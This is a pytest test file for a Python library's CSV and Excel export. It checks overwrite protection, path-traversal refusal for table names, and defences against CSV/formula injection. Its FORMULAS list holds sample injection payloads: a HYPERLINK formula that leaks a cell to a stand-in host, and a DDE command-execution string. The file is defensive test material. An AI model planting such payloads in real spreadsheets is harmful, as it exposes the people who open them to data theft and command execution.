"""Saving tables: CSV and Excel, never replacing a file unasked."""
from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

import corpusnb as cnb
from corpusnb import CorpusError
from corpusnb.present import export


@pytest.fixture
def table():
    return pd.DataFrame({"term": pd.Categorical(["eu", "russia", "eu"]),
                         "count": [3, 2, 1], "note": ["a\x07b", "ok", "x"]})


class TestSaveTable:
    def test_csv(self, tmp_path, table):
        path = cnb.save_table(table, tmp_path / "sub" / "t.csv")
        assert path.read_text("utf-8").splitlines() == [
            "term,count,note", "eu,3,a\x07b", "russia,2,ok", "eu,1,x"]

    def test_excel_read_back_with_openpyxl(self, tmp_path, table):
        path = cnb.save_table(table, tmp_path / "t.xlsx")
        sheet = openpyxl.load_workbook(path).active
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        # the BEL control character cannot live in an Excel cell: it is dropped there only
        assert rows == [["term", "count", "note"], ["eu", 3, "ab"], ["russia", 2, "ok"],
                        ["eu", 1, "x"]]

    def test_named_index_is_kept(self, tmp_path):
        frame = pd.DataFrame({"n": [1, 2]}, index=pd.Index(["a", "b"], name="doc_id"))
        path = cnb.save_table(frame, tmp_path / "t.csv")
        assert path.read_text("utf-8").splitlines() == ["doc_id,n", "a,1", "b,2"]

    def test_never_overwrites_unasked(self, tmp_path, table):
        target = tmp_path / "t.csv"
        target.write_text("earlier work", encoding="utf-8")
        with pytest.raises(CorpusError, match=r"t\.csv exists; .*overwrite=True"):
            cnb.save_table(table, target)
        assert target.read_text("utf-8") == "earlier work"
        cnb.save_table(table, target, overwrite=True)
        assert target.read_text("utf-8").startswith("term,count")

    def test_other_suffix(self, tmp_path, table):
        with pytest.raises(CorpusError, match=r"name a \.csv or \.xlsx file"):
            cnb.save_table(table, tmp_path / "t.json")

    def test_too_long_for_excel(self, tmp_path, table, monkeypatch):
        monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 2)
        with pytest.raises(CorpusError, match=r"3 rows do not fit an Excel sheet \(2 at most\)"):
            cnb.save_table(table, tmp_path / "t.xlsx")
        assert not (tmp_path / "t.xlsx").exists()


class TestSaveTables:
    def test_workbook_with_a_sheet_each(self, tmp_path, table):
        (path,) = cnb.save_tables({"first": table, "second": table.head(1)}, tmp_path / "w.xlsx")
        book = openpyxl.load_workbook(path)
        assert book.sheetnames == ["first", "second"]
        assert book["second"].max_row == 2

    def test_folder_of_csv(self, tmp_path, table):
        paths = cnb.save_tables({"first": table, "second": table}, tmp_path / "out")
        assert [p.name for p in paths] == ["first.csv", "second.csv"]
        assert pd.read_csv(paths[1])["count"].tolist() == [3, 2, 1]


FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1", "+1", "-1",
            "@SUM(A1:A2)", "=cmd|' /C calc'!A0"]


class TestNoFormulas:
    """OWASP's CSV injection guidance: no text is ever read back as a formula."""

    def _sheet_cells(self, path, sheet=None):
        book = openpyxl.load_workbook(path)
        return [(c.value, c.data_type) for row in (book[sheet] if sheet else book.active)
                for c in row]

    def test_csv_header_of_several_rows(self, tmp_path):
        columns = pd.MultiIndex.from_tuples([("=a", "+b"), ("=c", "@d")])
        path = cnb.save_table(pd.DataFrame([[1, "=1+1"]], columns=columns), tmp_path / "m.csv")
        assert path.read_text(encoding="utf-8").splitlines() == [
            "'=a,'=c", "'+b,'@d", "1,'=1+1"]

    @pytest.mark.parametrize("name", ["x/../../y", "/tmp/abs", "..", "a\\b", ""])
    def test_table_names_stay_inside_the_folder(self, tmp_path, name):
        folder = tmp_path / "out" / "tables"
        with pytest.raises(CorpusError, match="is not a file name"):
            cnb.save_tables({"ok": pd.DataFrame({"x": [1]}), name: pd.DataFrame({"x": [2]})},
                            folder)
        assert sorted(p.name for p in tmp_path.rglob("*.csv")) == []  # refused before any

    def test_xlsx_text_is_a_string_cell(self, tmp_path):
        table = pd.DataFrame({"title": FORMULAS, "n": [1, 2, 3, -1, 5, 6]})
        cells = self._sheet_cells(cnb.save_table(table, tmp_path / "t.xlsx"))
        assert cells[0::2] == [("title", "s")] + [(f, "s") for f in FORMULAS]
        assert cells[1::2] == [("n", "s"), (1, "n"), (2, "n"), (3, "n"), (-1, "n"), (5, "n"),
                               (6, "n")]

    def test_xlsx_holds_no_formula_element(self, tmp_path):
        import zipfile

        table = pd.DataFrame({"=1+1": ["=2+2"]}, index=pd.Index(["=3+3"], name="=doc"))
        path = cnb.save_table(table, tmp_path / "t.xlsx")
        xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml
        assert self._sheet_cells(path) == [("=doc", "s"), ("=1+1", "s"), ("=3+3", "s"),
                                           ("=2+2", "s")]

    def test_workbook_of_several_tables(self, tmp_path):
        tables = {"documents": pd.DataFrame({"title": ["=1+1", "A speech"]}),
                  "terms": pd.DataFrame({"term": ["@SUM(A1)"], "count": [2]})}
        (path,) = cnb.save_tables(tables, tmp_path / "tables.xlsx")
        assert self._sheet_cells(path, "documents") == [("title", "s"), ("=1+1", "s"),
                                                        ("A speech", "s")]
        assert self._sheet_cells(path, "terms") == [("term", "s"), ("count", "s"),
                                                    ("@SUM(A1)", "s"), (2, "n")]

    def test_csv_text_cells_get_a_quote(self, tmp_path):
        import csv

        table = pd.DataFrame({
            "title": FORMULAS + ["\tTab", "\rReturn", "a=b", "-1.5", "ok"],
            "change": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0, -10.0, 11.0],
            "mixed": [-2, "-2", "@x", None, "", " =x", "+", "=", "1-1", 0, "x"],
        })
        path = cnb.save_table(table, tmp_path / "t.csv")
        with open(path, encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert rows == [
            ["title", "change", "mixed"],
            ["'" + FORMULAS[0], "-1.5", "-2"],
            ["'=1+1", "2.0", "'-2"],
            ["'+1", "-3.0", "'@x"],
            ["'-1", "4.0", ""],
            ["'@SUM(A1:A2)", "5.0", ""],
            ["'=cmd|' /C calc'!A0", "6.0", " =x"],
            ["'\tTab", "7.0", "'+"],
            ["'\rReturn", "8.0", "'="],
            ["a=b", "9.0", "1-1"],
            ["'-1.5", "-10.0", "0"],  # -1.5 held as text is text; numbers stay numbers
            ["ok", "11.0", "x"],
        ]

    def test_csv_column_names_and_index_labels(self, tmp_path):
        table = pd.DataFrame({"=sum": [1], "count": [-2]},
                             index=pd.Index(["+doc"], name="@id"))
        path = cnb.save_table(table, tmp_path / "t.csv")
        assert path.read_text("utf-8").splitlines() == ["'@id,'=sum,count", "'+doc,1,-2"]

    def test_csv_of_a_categorical_column(self, tmp_path):
        table = pd.DataFrame({"term": pd.Categorical(["=a", "b", "=a"])})
        path = cnb.save_table(table, tmp_path / "t.csv")
        assert path.read_text("utf-8").splitlines() == ["term", "'=a", "b", "'=a"]

    def test_the_table_is_not_changed(self, tmp_path):
        table = pd.DataFrame({"title": ["=1+1"]})
        cnb.save_table(table, tmp_path / "t.csv")
        assert table["title"].tolist() == ["=1+1"]

    def test_csv_line_break_inside_a_text_stays_in_its_cell(self, tmp_path):
        import csv

        table = pd.DataFrame({"title": ["x\r=1+1", "y\n@z"], "n": [1, 2]})
        path = cnb.save_table(table, tmp_path / "t.csv")
        assert path.read_bytes() == b'title,n\r\n"x\r=1+1",1\r\n"y\n@z",2\r\n'
        with open(path, encoding="utf-8", newline="") as handle:
            assert list(csv.reader(handle)) == [["title", "n"], ["x\r=1+1", "1"],
                                                ["y\n@z", "2"]]
